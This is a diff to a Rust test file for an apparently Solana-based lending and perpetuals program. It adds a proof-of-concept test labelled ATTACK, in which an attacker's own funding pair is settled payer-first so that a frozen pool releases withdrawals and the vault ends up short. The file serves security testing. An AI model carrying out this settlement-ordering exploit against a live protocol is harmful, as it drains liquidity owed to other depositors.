@@ -52,6 +52,9 @@ struct Frozen {
     f: Trader,
     /// The attacker's account holding a stuck 1 000 USDC deposit.
     w: Trader,
+    /// With the funding pair: the attacker's G (100 SOL, 1 000 USDC) long 2 500 lots at 100
+    /// and H (100 SOL) short, both with 20 hours of funding unsettled (G owes 500, H is owed 500).
+    gh: Option<(Trader, Trader)>,
 }
 
 /// The funding scenario of the first round (A long 10 000 lots never touches; B short is
@@ -60,7 +63,7 @@ struct Frozen {
 /// 600 USDC) buys 5 000 lots at 104.9 from its own F (100 SOL) — cranked; W deposits 1 000 USDC;
 /// passive P (10 000), D and D2 (8 000 each) then withdraw everything the pool lets out, so `quote_withdrawable()` is 0 and
 /// every depositor (W included) is frozen by the net-borrow limit.
-async fn frozen_pool_with_quote_paid_ahead() -> Frozen {
+async fn frozen_pool_with_quote_paid_ahead(with_funding_pair: bool) -> Frozen {
     let (mut t, m, _) = sol_market_with_traders(0).await;
     let sol = t.add_pull_asset(9, volatile_params(), usd(100, T0)).await;
     set_net_borrow_limit(&mut t, LIMIT_100_USDC).await;
@@ -76,6 +79,16 @@ async fn frozen_pool_with_quote_paid_ahead() -> Frozen {
     t.place(&a, m, limit(Side::Bid, 100 * LOTS_PER_USD, 10_000)).await.assert_ok();
     t.place(&b, m, order(OrderType::Market, Side::Ask, 0, 10_000)).await.assert_ok();
     t.crank(m).await;
+    let gh = if with_funding_pair {
+        let g = trader_with(&mut t, sol, 100, 1_000_000_000).await;
+        let h = trader_with(&mut t, sol, 100, 0).await;
+        t.place(&h, m, limit(Side::Ask, 100 * LOTS_PER_USD, 2_500)).await.assert_ok();
+        t.place(&g, m, order(OrderType::Market, Side::Bid, 0, 2_500)).await.assert_ok();
+        t.crank(m).await;
+        Some((g, h))
+    } else {
+        None
+    };
     t.place(&c, m, order(OrderType::PostOnly, Side::Bid, 1_040_000, 1)).await.assert_ok();
     t.place(&c, m, order(OrderType::PostOnly, Side::Ask, 1_050_000, 1)).await.assert_ok();
     let mut now = t.now().await;
@@ -112,7 +125,7 @@ async fn frozen_pool_with_quote_paid_ahead() -> Frozen {
     assert_eq!(t.quote_withdrawable().await, 0);
     println!("W stuck {}", t.balance(&w.account, 0).await);
     t.withdraw(&w, 0, 1_000_000).await.assert_error(KeelError::NetBorrowLimitExceeded);
-    Frozen { t, m, e, f, w }
+    Frozen { t, m, e, f, w, gh }
 }
 
 /// Prints the quote bank's liquidity numbers.
@@ -141,7 +154,7 @@ async fn show(t: &mut TestContext, label: &str) -> keel::state::bank::Liquidity 
 ///   ≈ 5 USDC) let 517.51 leave a frozen vault at the expense of the depositors still waiting.
 #[tokio::test]
 async fn queued_maker_gain_hides_quote_paid_ahead_and_unfreezes_the_pool() {
-    let Frozen { mut t, m, e, f, w } = frozen_pool_with_quote_paid_ahead().await;
+    let Frozen { mut t, m, e, f, w, .. } = frozen_pool_with_quote_paid_ahead(false).await;
     let before = show(&mut t, "frozen").await;
     t.place(&f, m, limit(Side::Bid, 951_000, 5_000)).await.assert_ok();
     t.place(&e, m, order(OrderType::Market, Side::Ask, 0, 5_000)).await.assert_ok();
@@ -177,7 +190,7 @@ async fn queued_maker_gain_hides_quote_paid_ahead_and_unfreezes_the_pool() {
 ///   Property: a transfer of D into the vault raises what may be withdrawn by at most D.
 #[tokio::test]
 async fn direct_transfer_into_the_vault_unlocks_twice_its_size() {
-    let Frozen { mut t, w, .. } = frozen_pool_with_quote_paid_ahead().await;
+    let Frozen { mut t, w, .. } = frozen_pool_with_quote_paid_ahead(false).await;
     let donation = 100_000_000u64;
     let vault = t.quote_asset().await.vault;
     let ix = spl_token::instruction::transfer(&spl_token::ID, &w.wallets[0], &vault, &w.owner.pubkey(), &[], donation).unwrap();
@@ -188,4 +201,41 @@ async fn direct_transfer_into_the_vault_unlocks_twice_its_size() {
         "a donation of {donation} unlocked {} of withdrawals: {l:?}",
         l.withdrawable
     );
+}
+
+/// ATTACK: the same netting, through the permissionless `settle_account_funding` and no trade
+/// at all. Funding owed by a payer that has USDC, settled before its receiver, makes `unbooked`
+/// positive and hides quote paid ahead elsewhere; anyone may choose that order.
+/// - [`frozen_pool_with_quote_paid_ahead`] with the attacker's funding pair: G (1 000 USDC) long
+///   2 500 lots owes 500 USDC of funding to its own H (short), neither settled. Frozen: vault
+///   2 000.71, new lending 1 994.32, within_cap = withheld = 1 894.32, withdrawable 0; W has
+///   400.71 stuck.
+/// - The attacker cranks `settle_account_funding` on G only: G pays 500 out of its deposit,
+///   H's 500 stays pending: new lending 1 494.32, withheld 1 394.32, within_cap 1 920.64 —
+///   526.32 withdrawable; W takes its 400.71. Cranking H restores new lending to 1 994.32 and
+///   withheld to 1 894.32, but the vault holds 1 600.00 — 294.32 short of the excess the limit
+///   withholds — at no cost (G's funding goes to the attacker's own H).
+#[tokio::test]
+async fn settling_a_funding_payer_before_its_receiver_unfreezes_the_pool() {
+    let Frozen { mut t, m, w, gh, .. } = frozen_pool_with_quote_paid_ahead(true).await;
+    let (g, h) = gh.unwrap();
+    let keys = t.markets[m as usize].keys;
+    let before = show(&mut t, "frozen").await;
+    let g_before = t.balance(&g.account, 0).await;
+    t.send(&[keel_client::markets::settle_account_funding(&keys, &g.account)], &[]).await.assert_ok();
+    println!("G paid {}", g_before - t.balance(&g.account, 0).await);
+    let during = show(&mut t, "after cranking the payer G").await;
+    let take = (t.balance(&w.account, 0).await as u64).min(during.withdrawable);
+    let outcome = t.withdraw(&w, 0, take).await;
+    println!("W withdraws {take}: {:?}", outcome.result);
+    t.send(&[keel_client::markets::settle_account_funding(&keys, &h.account)], &[]).await.assert_ok();
+    let after = show(&mut t, "after cranking the receiver H").await;
+    let vault_key = t.quote_asset().await.vault;
+    let vault = t.token_balance(&vault_key).await;
+    assert!(before.withdrawable == 0 && after.withheld + 2_000_000 >= before.withheld, "{before:?} {after:?}");
+    assert!(
+        vault - after.withdrawable >= after.withheld,
+        "the excess no longer stays in the vault: vault {vault}, {after:?}"
+    );
+    assert_eq!(during.withdrawable, 0, "cranking one side of the funding unfroze the pool: {during:?}");
 }
